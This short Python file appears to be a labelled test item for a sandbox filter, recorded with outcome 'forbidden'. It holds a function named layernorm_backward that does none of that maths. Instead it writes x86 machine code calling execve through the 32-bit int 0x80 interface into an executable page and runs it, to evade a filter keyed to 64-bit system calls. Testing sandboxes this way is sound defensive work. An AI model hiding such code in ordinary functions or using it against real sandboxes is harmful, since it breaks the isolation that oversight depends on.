# tries: call the kernel by the 32-bit interface, past a filter of 64-bit numbers
# item: x86-32 system calls
# outcome: forbidden
# machine: x86_64
import ctypes
import mmap

CODE = b"\xb8\x0b\x00\x00\x00\xcd\x80\xc3"  # mov eax, 11 (execve there); int 0x80; ret


def layernorm_backward(x, gamma, dy, eps):
    page = mmap.mmap(-1, 4096, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    page.write(CODE)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
